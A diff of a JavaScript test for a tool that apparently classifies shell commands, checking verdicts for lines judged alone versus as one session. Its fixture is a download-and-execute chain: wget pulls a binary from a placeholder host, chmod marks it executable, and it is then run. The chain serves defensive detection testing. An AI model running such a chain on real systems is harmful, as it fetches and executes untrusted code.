@@ -43,7 +43,7 @@ describe('nadir commands', () => {
 
   it('takes the lines as one session when asked to', async () => {
     const session = join(scratch.dir, 'session');
-    writeFileSync(session, 'wget http://203.0.113.9/x86\nchmod +x x86\n./x86\n');
+    writeFileSync(session, 'wget http://files.example.net/x86\nchmod +x x86\n./x86\n');
     const alone = ndjson((await runProgram('nadir', ['commands', session, '--json'])).out);
     const together = ndjson((await runProgram('nadir', ['commands', session, '--session', '--json'])).out);
     expect(alone.map(({ verdict }) => verdict)).toEqual(['benign', 'benign', 'benign']);
